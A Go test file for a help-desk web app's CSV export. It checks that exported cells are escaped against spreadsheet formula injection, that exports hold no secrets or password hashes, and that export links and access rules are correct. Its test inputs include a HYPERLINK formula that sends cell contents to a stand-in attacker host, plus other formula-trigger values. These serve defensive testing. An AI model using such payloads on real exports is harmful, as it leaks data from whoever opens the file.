package web

import (
	"encoding/csv"
	"strings"
	"testing"
)

// cells reads a file as a spreadsheet's user would, and takes the apostrophes away
// again.
func cells(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %.300s", err, body)
	}
	for _, row := range rows {
		for i, cell := range row {
			if first, _ := firstRune(strings.TrimLeft(cell, "'")); strings.HasPrefix(cell, "'") && strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) {
				row[i] = cell[1:]
			}
		}
	}
	return rows
}

// A44 of reliability.md.
func TestA44NoCellOfAnExportIsAFormulaAndEachComesBackAsItWas(t *testing.T) {
	t.Parallel()
	w := openSite(t)
	texts := []string{`=HYPERLINK("https://evil.test?"&A1)`, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1", "''@x", "'tis quoted, \"so\"", "two\nlines", "plain; text", ""}
	for _, text := range texts {
		w.Exec(t, `insert into conversations (subject, requester_id, mailbox_id, channel, root) values ($1, $2, (select min(id) from mailboxes), 'api', gen_random_uuid()::text)`, text, w.people["somebody"].ID)
	}
	got := w.ask(t, "admin", "/agent/export/conversations.csv?requester={user}", nil)
	if got.Status != 200 || got.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.HasPrefix(got.Header.Get("Content-Disposition"), `attachment; filename="conversations-`) {
		t.Fatalf("%d %v", got.Status, got.Header)
	}
	raw, err := csv.NewReader(strings.NewReader(got.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range raw {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("%q begins a formula", cell)
			}
		}
	}
	rows := cells(t, got.Body)
	if len(rows) < len(texts)+1 || rows[0][1] != "subject" {
		t.Fatalf("%d rows, head %v", len(rows), rows[0])
	}
	for i, text := range texts {
		if subject := rows[len(texts)-i][1]; subject != text {
			t.Errorf("%q came back as %q", text, subject)
		}
	}
}

func TestAnExportHoldsNoNoteAndNoSecret(t *testing.T) {
	t.Parallel()
	w := openSite(t)
	for _, path := range []string{"/agent/export/conversations.csv", "/agent/export/users.csv", "/agent/export/audit.csv"} {
		got := w.ask(t, "admin", path, nil)
		if rows := cells(t, got.Body); got.Status != 200 || len(rows) < 2 {
			t.Errorf("%s: %d, %d rows", path, got.Status, len(rows))
		}
		for _, secret := range []string{"SECRET-CANARY", "$argon2", "Water it"} {
			if strings.Contains(got.Body, secret) {
				t.Errorf("%s holds %q", path, secret)
			}
		}
	}
	for path, link := range map[string]string{"/agent/users?role=customer&q=a+b": "/agent/export/users.csv?role=customer&q=a+b", "/admin/audit?act=user": "/agent/export/audit.csv?act=user"} {
		if found := w.ask(t, "admin", path, nil).find(t, "a", "href="+link); len(found) != 1 {
			t.Errorf("%s does not link %s", path, link)
		}
	}
	if found := w.ask(t, "agent", "/agent/users", nil).find(t, "a", "download"); len(found) > 0 {
		t.Error("an agent is offered an export")
	}
	users := cells(t, w.ask(t, "admin", "/agent/export/users.csv?role=customer&state=enabled&q=somebody", nil).Body)
	if len(users) != 2 || users[1][1] != w.people["somebody"].Name {
		t.Errorf("filtered as the list: %v", users)
	}
	if got := w.ask(t, "admin", "/agent/export/conversations.csv?view=%00&status=best", nil); got.Status != 400 {
		t.Errorf("a filter that is none: %d", got.Status)
	}
}
